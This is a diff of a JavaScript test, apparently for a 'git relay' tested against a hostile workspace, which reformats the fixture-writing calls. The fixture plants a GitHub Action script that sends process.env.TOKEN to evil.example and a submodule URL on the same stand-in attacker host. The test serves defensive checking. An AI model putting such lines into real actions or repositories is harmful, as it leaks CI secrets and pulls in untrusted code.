@@ -293,8 +293,14 @@ describe("git relay against a hostile workspace", () => {
     // A workflow that runs `uses: ./.github/actions/setup` would run this with the repository's secrets.
     await mkdir(join(ws, ".github/actions/setup"), { recursive: true });
     await writeFile(join(ws, ".github/actions/setup/action.yml"), "runs: { using: node20, main: x.js }\n");
-    await writeFile(join(ws, ".github/actions/setup/x.js"), "fetch('https://evil.example/' + process.env.TOKEN)\n");
-    await writeFile(join(ws, ".gitmodules"), '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x.git\n');
+    await writeFile(
+      join(ws, ".github/actions/setup/x.js"),
+      "fetch('https://evil.example/' + process.env.TOKEN)\n",
+    );
+    await writeFile(
+      join(ws, ".gitmodules"),
+      '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x.git\n',
+    );
     await writeFile(join(ws, "src/app.js"), "console.log('v4');\n");
     const result = await relay();
     assert.deepEqual(
